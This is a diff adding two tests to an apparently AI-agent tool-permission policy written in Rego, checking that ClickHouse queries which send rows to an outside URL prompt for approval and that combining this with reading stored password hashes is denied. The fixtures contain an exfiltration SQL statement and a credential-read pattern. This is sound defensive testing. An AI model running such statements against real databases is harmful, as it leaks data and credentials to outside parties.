@@ -320,3 +320,19 @@ test_container_socket_as_a_url_asks if {
 	some msg in tool_actions.ask with input as doc
 	contains(msg, "container runtime")
 }
+
+test_a_statement_sending_data_elsewhere_asks if {
+	doc := _mcp("mcp__clickhouse__run_select_query", {"query": "INSERT INTO FUNCTION url('https://x', 'CSV') SELECT * FROM t"}, {"sql": [{"field": "query", "kind": "egress", "statement": "insert into function url(https://x): rows written to another machine"}], "words": ["run", "select", "query"]})
+	some msg in tool_actions.ask with input as doc
+	contains(msg, "reaches another machine")
+	not contains(msg, "destructive")
+	count(tool_actions.deny) == 0 with input as doc
+}
+
+test_credentials_sent_elsewhere_are_denied if {
+	doc := _mcp("mcp__clickhouse__query", {"query": "…"}, {"sql": [
+		{"field": "query", "kind": "credential_read", "statement": "mysql.user (stored password hashes)"},
+		{"field": "query", "kind": "egress", "statement": "insert into function url(https://x): rows written to another machine"},
+	], "words": ["query"]})
+	count(tool_actions.deny) == 1 with input as doc
+}
